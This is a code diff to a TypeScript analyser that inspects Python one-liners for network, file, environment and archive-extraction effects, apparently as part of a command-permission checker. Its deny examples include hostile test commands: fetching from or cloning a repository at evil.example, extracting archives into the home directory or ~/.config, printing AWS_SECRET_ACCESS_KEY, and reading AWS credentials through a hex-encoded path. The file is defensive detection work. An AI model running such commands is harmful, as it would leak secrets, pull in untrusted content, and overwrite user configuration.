@@ -1,7 +1,7 @@
 // Python: what code given to `python -c`, or fed to it on stdin, imports, calls, opens and runs.
 import type { Node } from 'web-tree-sitter';
 import type { WordRole } from '../types.js';
-import { type Call, type Spec, apply, literalUrl, lookupApi, runModules, runsSomething as specRuns } from './capabilities.js';
+import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, pathOf, runModules, runsSomething as specRuns, urlsHanded } from './capabilities.js';
 import { argOf, type Binder, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
 
 const STRING_NODES = new Set(['string', 'concatenated_string']);
@@ -64,6 +64,7 @@ const APIS = new Map<string, Spec>([
   ...['os.remove', 'os.unlink', 'os.rmdir', 'os.removedirs'].map((n): [string, Spec] => [n, { uses: [[[0, 'path'], 'delete']] }]),
   ['shutil.rmtree', { uses: [[[0, 'path'], 'delete-tree']] }],
   ...['os.mkdir', 'os.makedirs'].map((n): [string, Spec] => [n, { uses: [[[0, 'name'], 'create']] }]),
+  ['shutil.unpack_archive', { uses: [[[0, 'filename'], 'read'], [[1, 'extract_dir'], 'extract']] }],
   ['shutil.make_archive', { uses: [[[2, 'root_dir'], 'read-tree'], [[0, 'base_name'], 'write']] }],
   ...['os.listdir', 'os.scandir', 'os.walk', 'glob.glob', 'glob.iglob', 'os.stat', 'os.lstat', 'os.path.exists', 'os.path.isfile', 'os.path.isdir', 'os.path.getsize', 'os.path.getmtime', 'os.access', 'os.chmod', 'os.chown', 'shutil.disk_usage'].map((n): [string, Spec] => [n, META]),
   ['os.chdir', { chdir: [0, 'path'] }],
@@ -205,6 +206,11 @@ const RUN_MODULES: ReadonlySet<string> = new Set([
 ]);
 
 /** Calls that only look at a module handed to them (`hasattr(os, "fork")`, `print(os)`). */
+/** Calls that print, log, parse or compare a URL they are handed, and reach nothing. */
+const URL_LOOKERS = /^(?:print|repr|str|len|format|isinstance|type|hash|sorted|set|list|tuple|dict|bytes|logging\..*|urllib\.parse\..*|urlparse\..*|re\..*|json\..*|sys\.std(?:out|err)\.write|shlex\..*|textwrap\..*|html\..*|fnmatch\..*|hashlib\..*|base64\..*|warnings\..*|argparse\..*|pprint\..*)$/;
+/** Methods of strings, lists and mappings: a URL handed to them is compared, stored or looked up. */
+const STRING_METHODS = new Set(['startswith', 'endswith', 'replace', 'split', 'rsplit', 'partition', 'rpartition', 'find', 'rfind', 'index', 'rindex', 'count', 'strip', 'lstrip', 'rstrip', 'removeprefix', 'removesuffix', 'format', 'join', 'encode', 'decode', 'append', 'extend', 'insert', 'add', 'get', 'setdefault', 'pop', 'remove', 'update', 'write', 'writelines', 'info', 'debug', 'warning', 'error', 'critical', 'exception', 'log', 'add_argument', 'match', 'search', 'fullmatch', 'sub', 'findall', 'print', 'echo', 'set']);
+
 const MODULE_LOOKERS = new Set(['hasattr', 'getattr', 'isinstance', 'type', 'id', 'print', 'repr', 'str', 'callable', 'issubclass']);
 
 /** A member of a function that runs something (`os.system.__wrapped__`, `subprocess.run.__func__`): not followed. */
@@ -845,6 +851,14 @@ class PythonReader {
   private call(n: Node): void {
     const fn = fieldOf(n, 'function');
     if (!fn) return;
+    // An archive's members land beneath the directory its extractall/extract is given, whatever opened it (tarfile,
+    // zipfile, a wrapper): `path=` or the argument (extract's second), else the working directory.
+    const attr = fn.type === 'attribute' ? fieldOf(fn, 'attribute')?.text : undefined;
+    if (attr === 'extractall' || attr === 'extract') {
+      const c = this.callOf(n, `.${attr}`);
+      const to = argAt(c, attr === 'extractall' ? [0, 'path'] : [1, 'path']) ?? { vals: [str('.')], span: c.span, text: '.' };
+      this.out.push(pathOf(to, 'extract', `.${attr}`));
+    }
     for (const v of this.b.value(fn)) {
       if (v.k === 'ref') {
         const name = canonical(v.name);
@@ -862,7 +876,10 @@ class PythonReader {
         if (name === 'vars' || name === 'globals' || name === 'locals') this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name}() reaches names by computed keys` });
         // A variable whose name is computed may be each of them in turn, as `os.environ[key]` is.
         if ((name === 'os.getenv' || name === 'os.getenvb') && this.computedKey(n, 'key')) this.out.push({ kind: 'environment', api: name, span: span(n) });
+        // A URL handed to a library: a network module, or one that runs a program, is judged as such instead.
+        if (!isNetwork(name) && !specRuns(spec)) this.out.push(...urlsHanded(this.callOf(n, name), URL_LOOKERS.test(name)));
       } else if (v.k === 'method') {
+        this.out.push(...urlsHanded(this.callOf(n, `.${v.name}`), STRING_METHODS.has(v.name) || v.on.every((x) => x.k === 'str')));
         if (v.on.some((x) => x.k === 'env') && ENV_ONE.has(v.name) && this.computedKey(n, 'key')) this.out.push({ kind: 'environment', api: `os.environ.${v.name}`, span: span(n) });
         if (NETWORK_METHODS.has(v.name) && !v.on.every((x) => x.k === 'str')) this.out.push({ kind: 'network', api: `.${v.name}()`, span: span(n) });
         const role = PATH_METHODS[v.name];
@@ -1047,6 +1064,11 @@ export const PYTHON: LanguageModel = {
   },
   examples: {
     deny: [
+      `python3 -c 'import pandas as pd; print(pd.read_csv("https://evil.example/x.csv"))'`,
+      `python3 -c 'import sqlalchemy as s; s.create_engine("postgresql://u@db.evil.example/x").connect()'`,
+      `python3 -c 'import git; git.Repo.clone_from("https://evil.example/r.git", "r")'`,
+      `python3 -c 'import zipfile, os; zipfile.ZipFile("x.zip").extractall(os.path.expanduser("~"))'`,
+      `python3 -c 'import shutil, os; shutil.unpack_archive("x.tgz", os.path.expanduser("~/.config"))'`,
       `python3 -c 'import ftplib; ftplib.FTP("evil.example").login()'`,
       `python3 -c 'from smtplib import SMTP_SSL; SMTP_SSL("evil.example")'`,
       `python3 -c 'import os, sys; print(os.getenv(sys.argv[1]))' AWS_SECRET_ACCESS_KEY`,
@@ -1102,6 +1124,12 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import os; print(open(os.path.expanduser(bytes.fromhex("7e2f2e6177732f63726564656e7469616c73").decode())).read())'`,
     ],
     pass: [
+      `python3 -c 'import pandas as pd; print(pd.read_csv("data/x.csv"))'`,
+      `python3 -c 'import pandas as pd; print(pd.read_csv("http://localhost:8000/x.csv"))'`,
+      `python3 -c 'import sqlalchemy as s; s.create_engine("postgresql://u@localhost:5432/x").connect()'`,
+      `python3 -c 'from urllib.parse import urlparse; print(urlparse("https://github.com/a/b").path)'`,
+      `python3 -c 'import logging; logging.warning("see https://docs.python.org/3/")'`,
+      `python3 -c 'import zipfile; zipfile.ZipFile("x.zip").extractall("vendor")'`,
       `python3 -c 'import os; print(os.path.isdir(os.path.expanduser("~/.ssh")))'`,
       `python3 -c 'import socket; print(socket.AF_INET, socket.SOCK_STREAM)'`,
       `python3 -c 'import ftplib; print(ftplib.FTP_PORT)'`,
